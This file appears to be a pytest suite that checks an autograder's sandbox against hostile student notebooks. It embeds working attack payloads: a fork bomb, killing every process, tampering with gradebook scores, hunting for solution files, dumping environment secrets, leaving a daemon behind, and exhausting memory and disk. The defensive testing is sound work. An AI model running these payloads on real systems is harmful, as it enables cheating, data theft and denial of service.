"""Each submission is graded in a sandbox (docs/security.md, issue 16).

One class of 04-kubernetes (the lightest module) is graded with two workers: an honest and
a blank control, and one hostile student per capability of the threat model, each written
as an attacker who has read course/sandbox.py would write it. Every attack sits in a blank
release (so it can only gain points, never earn them), after the setup cell. Asserted for
the whole class: exact scores for everyone, controls included; nothing outside the sandbox
changed; nothing the attacks started is left running; what each attack reports it reached
(printed into its own graded notebook) is nothing.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import socket
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest

from course import catalog
from course.autograde import grade
from course.sandbox import unavailable_reason
from course.scratch import ScratchCourse
from tests.classroom import (
    REPO,
    fill_answers,
    insert_after_setup,
    keep_only_graded_cells_after,
    limits,
    points_of,
)

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(unavailable_reason() is not None, reason=str(unavailable_reason())),
]

MODULE = catalog.get("04-kubernetes")
MARKER = "mlops-attack-7f3a"  # every process an attack starts carries it in its command line
SECRET = "grader-secret-5be1d0"  # in the grader's environment during the run

# What an attacker who has read the code searches: the course root the grader was started
# in, the interpreter's own installation (an editable install names the course folder),
# every process's working folder and root, and the usual places.
FIND_THE_COURSE = """\
import glob, json, os, pathlib, sys

def candidates():
    seen = set()
    roots = [os.getcwd(), sys.prefix, sys.executable, os.path.realpath(sys.executable), "/",
             os.path.expanduser("~"), "/tmp", "/work", "/root", "/home", "/srv", "/opt"]
    roots += [p for p in sys.path if p]
    roots += [os.environ.get(k, "") for k in ("MLOPS_COURSE_ROOT", "PWD", "OLDPWD", "HOME")]
    for finder in glob.glob(f"{sys.prefix}/lib/python3*/site-packages/__editable__*finder.py"):
        text = open(finder).read()
        roots += [part for part in text.split("'") if part.startswith("/")]
    for proc in glob.glob("/proc/[0-9]*"):
        for link in ("cwd", "root", "exe"):
            try:
                roots.append(os.readlink(f"{proc}/{link}"))
            except OSError:
                pass
    for root in roots:
        path = pathlib.Path(root)
        for folder in [path, *path.parents]:
            if folder not in seen:
                seen.add(folder)
                yield folder

def find_the_course(seconds=8):
    import time
    found = set()
    for folder in candidates():
        for pattern in ("solutions/*/*.ipynb", "gradebook.db", "submitted", "autograded",
                        "*/solutions/*/*.ipynb", "*/gradebook.db", "source_with_tests"):
            found.update(str(p) for p in folder.glob(pattern))
    deadline = time.monotonic() + seconds  # then a walk of everything, while time allows
    for folder, dirs, files in os.walk("/"):
        if time.monotonic() > deadline:
            break
        dirs[:] = [d for d in dirs if f"{folder}/{d}".replace("//", "/")
                   not in ("/proc", "/sys", "/dev", "/usr")]
        for name in files:
            if name == "gradebook.db" or (name.endswith(".ipynb") and "checkpoint" not in name):
                path = os.path.join(folder, name)
                try:
                    text = open(path, errors="replace").read()
                except OSError:
                    continue
                if name == "gradebook.db" or "BEGIN SOLUTION" in text or "BEGIN HIDDEN" in text:
                    found.add(path)
    return sorted(found)
"""

ATTACKS = {
    # reads the instructor's solutions and hidden tests into its own notebook (and so its
    # feedback), and runs every solution it finds
    "reads-the-course": FIND_THE_COURSE
    + """
leaked = []
for path in find_the_course():
    try:
        lines = open(path, "rb").read().decode("latin-1").splitlines()
    except OSError:
        continue
    for i, line in enumerate(lines):
        if "BEGIN HIDDEN" in line or "BEGIN SOLUTION" in line:
            leaked += lines[i : i + 8]
    try:
        cells = json.load(open(path))["cells"] if path.endswith(".ipynb") else []
    except Exception:
        cells = []
    for cell in cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            source = "".join(cell["source"])
            body = "\\n".join(l for l in source.splitlines()[1:] if "### " not in l) + "\\n"
            try:
                if source.startswith("%%writefile"):  # an artefact answer: write the file
                    target = pathlib.Path(source.splitlines()[0].split()[-1])
                    target.parent.mkdir(parents=True, exist_ok=True)
                    target.write_text(body)
                else:
                    exec(source, globals())
            except Exception:
                pass
# keep what was written: later answer cells (still placeholders) must not overwrite it
get_ipython().register_magic_function(lambda line, cell=None: None, "cell", "writefile")
print("\\n".join(leaked)[:400_000])
""",
    # writes its own score, and a classmate's, into any gradebook it can reach
    "writes-the-gradebook": FIND_THE_COURSE
    + """
import sqlite3
written = []
for path in find_the_course() + ["../gradebook.db", "../../gradebook.db", "/tmp/gradebook.db"]:
    if path.endswith("gradebook.db") and os.path.exists(path):
        try:
            db = sqlite3.connect(path)
            db.execute("update grade set auto_score = max_score")
            db.commit()
            written.append(path)
        except Exception:
            pass
print("REACHED", json.dumps(written))
""",
    # kills every process it can signal: the grader, the worker, the classmates' kernels
    "signals-everything": """\
import json, os, signal
hit = []
for pid in [1, os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
            hit.append(pid)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
# what it could see is what it could hit: only its own sandbox
print("REACHED", json.dumps([p for p in hit if p > 2]))
""",
    # leaves a double-forked daemon that outlives grading and changes files afterwards
    "leaves-a-daemon": f"""\
import json, os, subprocess, sys
daemon = '''
import os, pathlib, time
time.sleep(8)
for folder in [pathlib.Path.cwd(), pathlib.Path("/tmp"), *pathlib.Path.cwd().parents]:
    try:
        (folder / "{MARKER}.txt").write_text("the daemon outlived grading")
    except OSError:
        pass
time.sleep(600)
'''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        subprocess.Popen([sys.executable, "-c", daemon, "{MARKER}"],
                         start_new_session=True, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
    os._exit(0)
os.wait()
print("REACHED", json.dumps([]))
""",
    # reaches the host's loopback, the outside world, the Docker engine
    "uses-the-network": """\
import json, socket
reached = []
targets = [("127.0.0.1", {port}), ("10.0.2.2", 80), ("8.8.8.8", 53), ("pypi.org", 443)]
for host, port in targets:
    try:
        socket.create_connection((host, port), timeout=2).close()
        reached.append(f"{{host}}:{{port}}")
    except OSError:
        pass
for path in ("/var/run/docker.sock", "/run/docker.sock"):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(path)
        reached.append(path)
    except OSError:
        pass
print("REACHED", json.dumps(reached))
""",
    # reads the grader's environment (tokens, paths)
    "reads-the-environment": """\
import json, os
print("REACHED", json.dumps([f"{k}={v}" for k, v in os.environ.items() if "secret" in v.lower()]))
print(dict(os.environ))
""",
    # exhausts memory: the kernel and a child each try to take far more than the limit
    "exhausts-memory": f"""\
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "x = bytearray(6 << 30); import time; time.sleep(60)",
                  "{MARKER}"])
hog = bytearray(6 << 30)
""",
    # a fork bomb in the background
    "forks-without-end": f"""\
import subprocess, sys
bomb = "import os\\nwhile True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        pass"
subprocess.Popen([sys.executable, "-c", bomb, "{MARKER}"])
import time
time.sleep(3)
""",
    # fills the disk: its working folder, /tmp, the kernel's socket folder
    "fills-the-disk": """\
import json, os
written = {}
for folder in (".", "/tmp", "/run/kernel"):
    total = 0
    try:
        with open(os.path.join(folder, "fill.bin"), "wb") as out:
            block = b"x" * (1 << 20)
            while total < (8 << 30):
                out.write(block)
                total += len(block)
    except OSError:
        pass
    written[folder] = total
print("WRITTEN", json.dumps(written))
""",
    # ignores interrupts and never ends
    "hangs-ignoring-interrupts": """\
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    time.sleep(0.5)
""",
    # floods the output
    "floods-the-output": """\
import sys
for _ in range(200):
    sys.stdout.write("x" * 1_000_000 + "\\n")
""",
}


# Secrets only the instructor's side holds: a line planted in a solution cell of the course's
# solutions notebook, and the first line of the module's first hidden test (which the
# gradebook stores).
SOLUTION_CANARY = "# CANARY-SOLUTION-c41f: only the instructor's notebook has this line"


def first_hidden_line() -> str:
    solution = nbformat.read(MODULE.solution_path(REPO), as_version=4)
    for cell in solution.cells:
        if "### BEGIN HIDDEN TESTS" in cell.source:
            block = cell.source.split("### BEGIN HIDDEN TESTS", 1)[1]
            return next(line.strip() for line in block.splitlines() if len(line.strip()) > 20)
    raise LookupError(f"{MODULE.id} has no hidden tests")


def plant_canaries(solutions_notebook: Path) -> None:
    notebook = nbformat.read(solutions_notebook, as_version=4)
    for cell in notebook.cells:
        if "### BEGIN SOLUTION" in cell.source:
            cell.source = cell.source.replace(
                "### BEGIN SOLUTION", f"### BEGIN SOLUTION\n{SOLUTION_CANARY}", 1
            )
            break
    nbformat.write(notebook, solutions_notebook)


def _digest(folder: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not any(part in skip for part in p.relative_to(folder).parts)
    }


def _sandbox_cgroups() -> list[Path]:
    return [p for p in Path("/sys/fs/cgroup").rglob("mlops-sandbox-*") if p.is_dir()]


def _orphaned(groups: set[Path]) -> list[Path]:
    """Cgroups whose grading process has ended (``mlops-sandbox-<pid>-<id>``). Tests run in
    parallel: another test's grading, still running, has sandboxes of its own."""
    return sorted(g for g in groups if not psutil.pid_exists(int(g.name.split("-")[2])))


def _marked_processes() -> list[str]:
    found = []
    for process in psutil.process_iter(["pid", "cmdline"]):
        with contextlib.suppress(psutil.Error):
            if any(MARKER in part for part in process.info["cmdline"] or []):
                found.append(f"{process.info['pid']}: {' '.join(process.info['cmdline'])[:80]}")
    return found


def _reported(notebook: Path, label: str) -> list | dict | None:
    """What an attack printed after ``label`` in its own graded notebook."""
    for cell in nbformat.read(notebook, as_version=4).cells:
        for output in cell.get("outputs", []):
            for line in str(output.get("text", "")).splitlines():
                if line.startswith(f"{label} "):
                    return json.loads(line.removeprefix(f"{label} "))
    return None


class Listener:
    """A TCP server on the host's loopback that counts who connects."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stopped.is_set():
            with contextlib.suppress(OSError):
                connection, _ = self.server.accept()
                self.connections += 1
                connection.close()

    def close(self) -> None:
        self.stopped.set()
        self.thread.join(2)
        self.server.close()


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    listener = Listener()
    cgroups_before = set(_sandbox_cgroups())  # an earlier, interrupted run's are not ours
    for stale in Path("/tmp").glob(f"{MARKER}*"):  # left by an earlier, interrupted run
        stale.unlink()
    canary = Path("/tmp") / f"{MARKER}-canary.txt"
    canary.write_text("the host's /tmp")
    os.environ["MLOPS_GRADER_SECRET"] = SECRET
    try:
        with ScratchCourse(REPO) as scratch:
            release = nbformat.read(scratch.generate(MODULE) / MODULE.notebook, as_version=4)
            solution = nbformat.read(MODULE.solution_path(REPO), as_version=4)
            first_check = next(iter(points_of(release)))
            blank = keep_only_graded_cells_after(release, first_check)
            students = {"honest": fill_answers(release, solution), "blank": release}
            for name, attack in ATTACKS.items():
                code = (
                    attack.replace("{port}", str(listener.port)) if "{port}" in attack else attack
                )
                students[name] = insert_after_setup(blank, code)
            for student, notebook in students.items():
                path = tmp / f"{student}.ipynb"
                nbformat.write(notebook, path)
                scratch.submit(MODULE, student, path)
            (scratch.root / "solutions" / "canary.txt").write_text("untouched")
            plant_canaries(scratch.root / "solutions" / MODULE.id / MODULE.notebook)
            written_by_grading = ("autograded", "gradebook.db", "grading-failures.json")
            before = _digest(scratch.root, skip=written_by_grading)
            start = time.perf_counter()
            results = {
                r.student: r
                for r in grade(
                    scratch.root,
                    MODULE.id,
                    [
                        "hangs-ignoring-interrupts",
                        *[s for s in students if s != "hangs-ignoring-interrupts"],
                    ],
                    workers=2,
                    # every honest notebook here takes seconds: a short notebook limit ends
                    # the fork bomb's (hopeless) grading early. The longest graded one, the
                    # student hanging with SIGINT ignored (a cell timeout and a revival),
                    # takes 29 s alone and took over 45 s once in CI, beside the fork bomb
                    cell_timeout=limits(MODULE.id).cell,
                    notebook_timeout=limits(MODULE.id).cell + 45,
                    progress=False,
                )
            }
            seconds = time.perf_counter() - start
            after = _digest(scratch.root, skip=written_by_grading)
            time.sleep(10)  # give a surviving daemon the time to act
            graded = {
                s: scratch.root / "autograded" / s / MODULE.id / MODULE.notebook for s in students
            }
            yield {
                "results": results,
                "scores": {s: scratch.scores(MODULE, s) for s in students if graded[s].is_file()},
                "points": points_of(release),
                "graded": graded,
                "changed": {
                    k for k in before.keys() | after.keys() if before.get(k) != after.get(k)
                },
                "late_files": sorted(str(p) for p in scratch.root.rglob(f"{MARKER}*")),
                "canary": canary.read_text(),
                "tmp_marks": sorted(str(p) for p in Path("/tmp").glob(f"{MARKER}.txt")),
                "processes": _marked_processes(),
                "cgroups_left": _orphaned(set(_sandbox_cgroups()) - cgroups_before),
                "listener": listener.connections,
                "seconds": seconds,
            }
    finally:
        os.environ.pop("MLOPS_GRADER_SECRET", None)
        listener.close()
        canary.unlink(missing_ok=True)
        for process in psutil.process_iter(["cmdline"]):  # never leave a test's mess behind
            with contextlib.suppress(psutil.Error):
                if any(MARKER in part for part in process.info["cmdline"] or []):
                    process.kill()


# Attacks whose own grading the sandbox may have to cut short: a fork bomb shares its one
# CPU with hundreds of spinning processes, so its notebook may not finish in time. That is
# recorded as a failure with its reason (never as a zero that looks earned), and costs no
# classmate anything.
MAY_STOP_ITS_OWN_GRADING = {"forks-without-end"}


def test_every_student_is_graded_and_scores_exactly_what_it_earned(hostile_class):
    points = hostile_class["points"]
    expected = {"honest": dict(points)} | {
        s: dict.fromkeys(points, 0.0) for s in hostile_class["graded"] if s != "honest"
    }
    wrong = {}
    for student, earned in expected.items():
        result = hostile_class["results"][student]
        if result.status != "graded" and student in MAY_STOP_ITS_OWN_GRADING:
            if not result.error:
                wrong[student] = f"{result.status} without a reason"
            continue
        if result.status != "graded":
            wrong[student] = f"{result.status}: {result.error}"
            continue
        got = {cell: score.score for cell, score in hostile_class["scores"][student].items()}
        if got != earned:
            wrong[student] = f"got {got}, earned {earned}"
    assert not wrong, "\n".join(f"{s}: {w}" for s, w in sorted(wrong.items()))


def _bare(text: str) -> str:
    """Text without quotes, backslashes and blanks: a secret read from a JSON file and
    printed into another one is escaped twice, and must still be recognised."""
    return "".join(char for char in text if char not in IGNORED)


IGNORED = set("\\\"' \t\n")


def _printed_by_student_cells(notebook: Path) -> str:
    """Everything the cells a student controls printed (check cells are the instructor's,
    and nbgrader puts the hidden tests back into their source)."""
    if not notebook.is_file():
        return ""
    return json.dumps(
        [
            cell.get("outputs", [])
            for cell in nbformat.read(notebook, as_version=4).cells
            if not cell.get("metadata", {}).get("nbgrader", {}).get("grade")
        ]
    )


def test_solutions_and_hidden_tests_never_reach_a_graded_notebook(hostile_class):
    for student, notebook in hostile_class["graded"].items():
        text = _bare(_printed_by_student_cells(notebook))
        assert _bare(SOLUTION_CANARY) not in text, f"{student} read the course's solutions"
        assert _bare(first_hidden_line()) not in text, f"{student} read a hidden test"


@pytest.mark.parametrize(
    "attack",
    ["writes-the-gradebook", "signals-everything", "uses-the-network", "reads-the-environment"],
)
def test_an_attack_reaches_nothing_outside_its_sandbox(hostile_class, attack):
    reached = _reported(hostile_class["graded"][attack], "REACHED")
    assert reached == [], f"{attack} reached {reached}"


def test_no_file_outside_the_sandbox_changed(hostile_class):
    assert not hostile_class["changed"], (
        f"changed during grading: {sorted(hostile_class['changed'])}"
    )
    assert not hostile_class["late_files"], hostile_class["late_files"]
    assert hostile_class["canary"] == "the host's /tmp"
    assert not hostile_class["tmp_marks"], (
        f"written into the host's /tmp: {hostile_class['tmp_marks']}"
    )


def test_nothing_an_attack_started_is_left_running(hostile_class):
    assert not hostile_class["processes"], hostile_class["processes"]
    left = hostile_class["cgroups_left"]
    assert not left, f"sandbox cgroups left behind: {left}"


def test_the_host_loopback_saw_no_connection(hostile_class):
    assert hostile_class["listener"] == 0


def test_the_grader_environment_stays_outside(hostile_class):
    text = hostile_class["graded"]["reads-the-environment"].read_text()
    assert SECRET not in text
    assert "MLOPS_GRADER_SECRET" not in text


def test_disk_writes_stop_at_the_sandbox_limits(hostile_class):
    written = _reported(hostile_class["graded"]["fills-the-disk"], "WRITTEN")
    assert written is not None, "the attack did not report"
    assert written["."] <= 512 << 20 and written["/tmp"] <= 256 << 20
    assert written["/run/kernel"] <= 1 << 20


def test_a_memory_hog_is_stopped_and_its_kernel_revived(hostile_class):
    result = hostile_class["results"]["exhausts-memory"]
    assert result.status == "graded" and result.kernel_restarts >= 1, result


def test_output_is_cut_before_the_notebook_is_saved(hostile_class):
    assert hostile_class["graded"]["floods-the-output"].stat().st_size < 20 << 20
